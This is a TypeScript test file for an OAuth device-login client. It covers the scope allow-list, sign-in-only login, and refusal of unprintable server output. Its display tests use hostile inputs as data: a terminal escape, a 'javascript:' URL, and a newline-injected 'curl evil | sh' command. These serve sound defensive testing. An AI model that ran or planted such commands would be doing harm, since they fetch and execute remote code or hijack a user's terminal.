// The scope allow-list and what reaches the terminal: the video API's scopes the device flow does not permit are
// refused before sending; a sign-in-only login; and a hostile server's user code or URL (terminal escapes, non-ASCII)
// refused rather than printed. The hostile server is a test peer (no real authorization server sends these).
import assert from 'node:assert/strict';
import { startOAuthServer } from '../../devserver/oauth/index.js';
import { allowedScopes, authHttpClient, deviceLogin, discoverEndpoints, renderPrompt, requestDeviceCode, resolveScopes } from '../../lib/auth/index.js';
import { ProtocolError } from '../../lib/http/index.js';
import { startHttpPeer, type HttpPeer } from '../peers/http.js';

const base = 'https://www.googleapis.com';

describe('scopes and display', function () {
  this.timeout(30_000);

  for (const [rule, name] of [
    ['DEV-SCOPE-VIDEO-CHANNEL-MEMBERSHIPS', 'video.channel-memberships.creator'],
    ['DEV-SCOPE-VIDEO-FORCE-SSL', 'video.force-ssl'],
    ['DEV-SCOPE-VIDEO-UPLOAD', 'video.upload'],
    ['DEV-SCOPE-VIDEOPARTNER', 'videopartner'],
    ['DEV-SCOPE-VIDEOPARTNER-CHANNEL-AUDIT', 'videopartner-channel-audit'],
  ] as const) {
    it(`${rule} DEV-SCOPE-DEVICE-ALLOWED: the video API's ${name} scope exists but the device flow does not permit it: refused before sending, by short or full name`, () => {
      for (const asked of [name, `${base}/auth/${name}`]) {
        assert.throws(
          () => resolveScopes(['openid', asked]),
          (error: Error & { exitCode?: number; hint?: string }) => {
            assert.equal(error.exitCode, 2);
            assert.ok(error.message.includes(asked), error.message);
            assert.match(error.hint ?? '', /video\.readonly/);
            return true;
          },
        );
      }
    });
  }

  it('DEV-SCOPE-VIDEO DEV-SCOPE-VIDEO-READONLY DEV-SCOPE-DEVICE-ALLOWED: the seven permitted scopes, under the scope base given', () => {
    assert.deepEqual(allowedScopes('https://scopes.example'), [
      'email',
      'openid',
      'profile',
      ...['storage.appdata', 'storage.file', 'video', 'video.readonly'].map((s) => `https://scopes.example/auth/${s}`),
    ]);
    assert.deepEqual(resolveScopes(['video', 'video.readonly'], 'https://scopes.example'), [
      'https://scopes.example/auth/video',
      'https://scopes.example/auth/video.readonly',
    ]);
  });

  it('DEV-ALT-SIGNIN-FLOW DEV-FLOW-PURPOSE: a device that needs only sign-in asks for openid email profile and gets an ID token naming the person, with no API scope', async () => {
    const server = await startOAuthServer({ host: '127.0.0.1', port: 0, interval: 1 });
    try {
      const client = server.registerClient({});
      const result = await deviceLogin({
        authUrl: server.url,
        clientId: client.id,
        clientSecret: client.secret!,
        scopes: resolveScopes(['openid', 'email', 'profile']),
        onCode: (code) => setTimeout(() => server.approve(code.userCode), 100).unref(),
      });
      assert.equal(result.account?.email, 'dev@gantry.test');
      assert.ok(result.account?.sub);
      assert.deepEqual(result.tokens.scope.split(' ').sort(), ['email', 'openid', 'profile']);
    } finally {
      await server.stop();
    }
  });

  describe('DEV-LIM-DISPLAY-ASCII DEV-LIM-DISPLAY-USER-CODE-15 DEV-LIM-DISPLAY-URL-40: what a server sends is printed only when it is printable US-ASCII', () => {
    let peer: HttpPeer;
    let answer: Record<string, unknown> = {};
    before(async () => {
      peer = await startHttpPeer((request, response) => {
        response.writeHead(request.url.startsWith('/.well-known/') ? 404 : 200, { 'content-type': 'application/json' });
        response.end(request.url.startsWith('/.well-known/') ? '{}' : JSON.stringify(answer));
      });
    });
    after(() => peer.close());

    const ask = async () => {
      const http = authHttpClient();
      try {
        return await requestDeviceCode(http, await discoverEndpoints(http, peer.url), { clientId: 'c', scopes: ['openid'] });
      } finally {
        http.close();
      }
    };

    it('any printable character is kept exactly, 15 characters of code and a 40-character URL shown whole', async () => {
      answer = { device_code: 'd', user_code: 'Wq~!{}|/#$%^&*(', verification_url: 'https://e.example/device?x=1&y=~zz_12345', expires_in: 60 };
      const code = await ask();
      assert.equal(code.userCode, 'Wq~!{}|/#$%^&*(');
      assert.equal(code.userCode.length, 15);
      assert.equal(code.verificationUrl.length, 40);
      assert.equal(code.interval, 5, 'no interval given: 5 s');
      const lines = renderPrompt(code);
      assert.ok(lines.includes(`    ${code.userCode}`) && lines.includes(`    ${code.verificationUrl}`));
    });

    for (const [what, field, value] of [
      ['a terminal escape in the user code', 'user_code', 'AB\u001b[2JCD'],
      ['a non-ASCII user code', 'user_code', 'ÄBCD-EFGH'],
      ['a newline in the URL', 'verification_url', 'https://e.example/device\nRun: curl evil | sh'],
      ['a URL that is no http(s)', 'verification_url', 'javascript:alert(1)'],
    ] as const) {
      it(`${what} is refused, not printed`, async () => {
        answer = { device_code: 'd', user_code: 'ABCD-EFGH', verification_url: 'https://e.example/device', expires_in: 60, [field]: value };
        await assert.rejects(
          ask(),
          (error: Error & { exitCode?: number }) => error instanceof ProtocolError && error.exitCode === 3 && !error.message.includes(value),
        );
      });
    }
  });
});
